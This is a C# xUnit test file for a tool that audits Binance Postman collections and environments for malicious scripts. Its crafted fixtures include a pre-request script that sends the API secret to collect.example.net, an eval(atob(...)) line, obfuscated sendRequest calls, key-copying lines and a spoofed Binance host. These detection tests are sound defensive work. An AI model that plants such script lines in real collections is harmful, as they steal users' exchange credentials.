using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using BinancePostman.Catalog;
using Xunit;
using Xunit.Abstractions;

namespace BinancePostman.Tests.Catalog
{
    public class CollectionAuditorTests
    {
        private readonly ITestOutputHelper _output;

        public CollectionAuditorTests(ITestOutputHelper output) => _output = output;

        private static IReadOnlyList<AuditFinding> Audit(string json) => CollectionAuditor.Audit(Encoding.UTF8.GetBytes(json), "/tmp/crafted.json");

        private static List<AuditFinding> Problems(IEnumerable<AuditFinding> findings) => findings.Where(f => f.Severity != AuditSeverity.Info).ToList();

        /// <summary>A collection with one request and a collection-level pre-request script of the given lines.</summary>
        private static string WithScript(params string[] lines)
        {
            string exec = string.Join(",\n", lines.Select(l => "        " + System.Text.Json.JsonSerializer.Serialize(l)));
            return "{\n  \"info\": { \"name\": \"Crafted\", \"schema\": \"https://schema.getpostman.com/json/collection/v2.1.0/collection.json\" },\n"
                + "  \"item\": [ { \"name\": \"Ping\", \"request\": { \"method\": \"GET\", \"url\": \"{{url}}/api/v3/ping\" } } ],\n"
                + "  \"event\": [ { \"listen\": \"prerequest\", \"script\": { \"type\": \"text/javascript\", \"exec\": [\n" + exec + "\n      ] } } ]\n}";
        }

        public static IEnumerable<object[]> BundledFiles() =>
            Directory.EnumerateFiles(Path.Combine(Fixtures.RepoRoot, "collections"), "*.json")
                .Concat(Directory.EnumerateFiles(Path.Combine(Fixtures.RepoRoot, "environments"), "*.json", SearchOption.AllDirectories))
                .Select(f => new object[] { Path.GetRelativePath(Fixtures.RepoRoot, f) });

        [Theory]
        [MemberData(nameof(BundledFiles))]
        public void BundledFilesHaveNothingToWarnAbout(string relativePath)
        {
            var findings = CollectionAuditor.AuditFile(Path.Combine(Fixtures.RepoRoot, relativePath));
            Assert.Empty(Problems(findings));
            if (relativePath.StartsWith("collections"))
                Assert.Contains(findings, f => f.Severity == AuditSeverity.Info && f.Finding.Contains("signing script"));
        }

        [Fact]
        public void BinanceFixturesOfBothGenerationsAreQuiet()
        {
            var files = Directory.EnumerateFiles(Fixtures.Postman2025, "*.json", SearchOption.AllDirectories)
                .Concat(Directory.EnumerateFiles(Fixtures.Postman2026, "*.json", SearchOption.AllDirectories)).ToList();
            Assert.True(files.Count >= 40);
            var all = files.SelectMany(f => CollectionAuditor.AuditFile(f)).ToList();
            foreach (AuditFinding f in all.Where(f => f.Severity != AuditSeverity.Info)) _output.WriteLine(f.ToString());
            Assert.Empty(Problems(all));
            Assert.True(all.Count(f => f.Finding.Contains("signing script")) >= 30);
        }

        [Fact]
        public void SendRequestToAnotherHostWithTheSecretIsAnError()
        {
            var findings = Audit(WithScript(
                "const secret = pm.environment.get('binance-api-secret');",
                "pm.sendRequest({ url: 'https://collect.example.net/k?s=' + secret, method: 'GET' });"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Warning && f.Finding.Contains("request of its own"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Warning && f.Finding.Contains("collect.example.net"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding.Contains("'binance-api-secret'"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding.Contains("sends requests of its own"));
        }

        [Fact]
        public void FindingsNameTheLineInTheFile()
        {
            string json = WithScript("const x = 1;", "eval(atob('cGF5bG9hZA=='));");
            var finding = Assert.Single(Audit(json), f => f.Finding.Contains("code built from text"));
            int expected = json.Split('\n').ToList().FindIndex(l => l.Contains("eval(")) + 1;
            Assert.Equal(expected, finding.Line);
            Assert.Contains("script line 2", finding.Location);
            Assert.Equal(AuditSeverity.Error, finding.Severity);
        }

        [Theory]
        [InlineData("const f = new Function('return 1');")]
        [InlineData("setTimeout(\"doIt()\", 10);")]
        [InlineData("fetch('https://api.binance.com/api/v3/ping');")]
        [InlineData("const http = require('https');")]
        [InlineData("var x = new XMLHttpRequest();")]
        [InlineData("const u = atob('aHR0cHM6Ly9leGFtcGxlLm9yZw==');")]
        [InlineData("const f = String.fromCharCode(112, 109);")]
        [InlineData("pm['send' + 'Request'](u);")]
        public void UnusualScriptCallsAreFound(string line) => Assert.NotEmpty(Problems(Audit(WithScript(line))));

        [Fact]
        public void CopyingKeysIntoOtherVariablesOrHeaders()
        {
            var findings = Audit(WithScript(
                "const key = pm.environment.get('binance-api-key');",
                "const secret = pm.environment.get('binance-api-secret');",
                "pm.globals.set('backup', secret);",
                "pm.request.headers.add({ key: 'X-Other', value: key });",
                "pm.request.headers.add({ key: 'X-MBX-APIKEY', value: secret });",
                "pm.request.url.addQueryParams('k=' + key);",
                "console.log(secret);",
                "pm.collectionVariables.set('api-secret', 'x');"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding.Contains("copies the secret 'binance-api-secret' into the globals variable 'backup'"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding.Contains("header 'X-Other'"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding.Contains("secret 'binance-api-secret' into the header 'X-MBX-APIKEY'"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding.Contains("into a URL"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Warning && f.Finding.Contains("Postman console"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Warning && f.Finding.Contains("writes the secret variable 'api-secret'"));
        }

        [Fact]
        public void LegacyPostmanVariableCallsAreReadToo()
        {
            var findings = Audit(WithScript(
                "var s = postman.getEnvironmentVariable('binance-api-secret');",
                "postman.setGlobalVariable('copy', s);"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Finding.Contains("into the globals variable 'copy'"));
        }

        [Fact]
        public void SigningTheWayBinanceDoesIsOnlyInfo()
        {
            var findings = Audit(WithScript(
                "const ts = Date.now();",
                "pm.environment.set('timestamp', ts);",
                "const api_key = pm.environment.get('api-key');",
                "const secret = pm.environment.get('api-secret');",
                "if (!secret) console.warn('api-secret is not set');",
                "const signature = CryptoJS.HmacSHA256('timestamp=' + ts, secret).toString();",
                "pm.environment.set('signature', signature);",
                "pm.request.headers.add({ key: 'X-MBX-APIKEY', value: api_key });",
                "// pm.sendRequest('https://example.org') in a comment is not code"));
            Assert.Empty(Problems(findings));
            Assert.Contains(findings, f => f.Finding.Contains("signing script"));
        }

        [Fact]
        public void RequestsToOtherHostsAreOneFindingPerHost()
        {
            var findings = Audit(@"{ ""info"": { ""name"": ""C"", ""schema"": ""https://schema.getpostman.com/json/collection/v2.1.0/collection.json"" },
                ""variable"": [ { ""key"": ""base"", ""value"": ""https://api.binance.com.evil.example"" } ],
                ""item"": [
                  { ""name"": ""A"", ""request"": { ""method"": ""GET"", ""url"": ""{{base}}/api/v3/account"" } },
                  { ""name"": ""B"", ""request"": { ""method"": ""GET"", ""url"": { ""raw"": ""https://api.binance.com.evil.example/api/v3/order"", ""host"": [""api"", ""binance"", ""com"", ""evil"", ""example""], ""path"": [""api"", ""v3"", ""order""] } } },
                  { ""name"": ""Local"", ""request"": { ""method"": ""GET"", ""url"": ""http://127.0.0.1:5000/api/v3/ping"" } },
                  { ""name"": ""Real"", ""request"": { ""method"": ""GET"", ""url"": ""https://api.binance.com/api/v3/ping"" } } ] }");
            var foreign = Assert.Single(findings, f => f.Finding.StartsWith("2 request(s) go to api.binance.com.evil.example"));
            Assert.Equal(AuditSeverity.Warning, foreign.Severity);
            Assert.Contains("'A'", foreign.Location);
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Warning && f.Location == "variable 'base'");
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Info && f.Finding.Contains("127.0.0.1"));
        }

        [Fact]
        public void SecretsSentAsHeadersOrParameters()
        {
            var findings = Audit(@"{ ""info"": { ""name"": ""C"", ""schema"": ""https://schema.getpostman.com/json/collection/v2.1.0/collection.json"" },
                ""item"": [ { ""name"": ""A"", ""request"": { ""method"": ""GET"",
                    ""header"": [ { ""key"": ""X-MBX-APIKEY"", ""value"": ""{{binance-api-key}}"" }, { ""key"": ""X-Secret"", ""value"": ""{{binance-api-secret}}"" } ],
                    ""url"": { ""raw"": ""{{url}}/api/v3/account"", ""host"": [""{{url}}""], ""path"": [""api"", ""v3"", ""account""], ""query"": [ { ""key"": ""s"", ""value"": ""{{api-secret}}"" } ] } } } ] }");
            Assert.Equal(2, Problems(findings).Count);
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Location == "'A' header 'X-Secret'");
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Location == "'A' parameter 's'");
        }

        [Fact]
        public void EnvironmentWithRealLookingKeys()
        {
            string key = new string('a', 32) + new string('B', 16) + "0123456789abcdef";
            var findings = Audit(@"{ ""name"": ""Mine"", ""values"": [
                { ""key"": ""url"", ""value"": ""https://api.binance.com"", ""enabled"": true },
                { ""key"": ""binance-api-key"", ""value"": """ + key + @""", ""enabled"": true },
                { ""key"": ""binance-api-secret"", ""value"": """ + key.ToLowerInvariant() + @""", ""enabled"": true },
                { ""key"": ""private-key"", ""value"": ""-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEI\n-----END PRIVATE KEY-----"", ""enabled"": true },
                { ""key"": ""api-key"", ""value"": ""api-key"", ""enabled"": true },
                { ""key"": ""signature"", ""value"": ""c8db56825ae71d6d79447849e617115f4a920fa2acdcab2b053c4b2838bd6b71"", ""enabled"": true },
                { ""key"": ""timestamp"", ""value"": ""1499827319559"", ""enabled"": true },
                { ""key"": ""api-secret"", ""value"": ""<your secret>"", ""enabled"": true },
                { ""key"": ""proxy"", ""value"": ""http://proxy.example.com:8080"", ""enabled"": true } ] }");
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Warning && f.Location == "values 'binance-api-key'" && f.Line == 3);
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Location == "values 'binance-api-secret'");
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Error && f.Location == "values 'private-key'" && f.Finding.Contains("PEM"));
            Assert.Contains(findings, f => f.Severity == AuditSeverity.Warning && f.Location == "values 'proxy'");
            Assert.DoesNotContain(findings, f => f.Location == "values 'api-key'" || f.Location == "values 'api-secret'" || f.Location == "values 'url'"
                || f.Location == "values 'signature'" || f.Location == "values 'timestamp'");
            Assert.DoesNotContain(key, string.Join("\n", findings.Select(f => f.ToString())));
        }

        [Theory]
        [InlineData("{ \"info\": { \"name\": \"x\",, } }")]
        [InlineData("   ")]
        [InlineData("[1, 2]")]
        public void BrokenFilesAreFindingsNotCrashes(string json)
        {
            var finding = Assert.Single(Audit(json));
            Assert.Equal(AuditSeverity.Error, finding.Severity);
            Assert.Equal("/tmp/crafted.json", finding.File);
        }

        [Fact]
        public void MissingFileIsAFinding()
        {
            var finding = Assert.Single(CollectionAuditor.AuditFile(Path.Combine(Path.GetTempPath(), "no-such-dir-bp", "x.json")));
            Assert.Equal(AuditSeverity.Error, finding.Severity);
        }
    }
}
